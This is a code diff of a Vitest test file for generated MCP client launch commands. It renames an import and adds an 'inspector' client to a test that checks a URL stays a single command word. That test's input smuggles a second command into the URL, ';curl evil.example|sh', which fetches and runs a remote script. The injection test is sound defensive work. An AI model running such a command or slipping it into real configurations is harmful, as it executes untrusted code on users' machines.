@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest'
-import { clientConfigs } from './client-config.ts'
+import { clientConfigs } from './mcp-client-configs.ts'
 
 const entry = { name: 'crm', url: 'https://grantry.example/mcp/mcp_1', key: 'grantry_sk_x' }
 
@@ -10,7 +10,7 @@ test('mcp-remote gets the key by the environment: it runs for hours, and its arg
   )
 })
 
-test.each(['claude-code', 'mcp-remote'] as const)(
+test.each(['claude-code', 'mcp-remote', 'inspector'] as const)(
   'an address is one word of the command for %s',
   (client) => {
     const url = 'https://grantry.example/mcp/x;curl evil.example|sh'
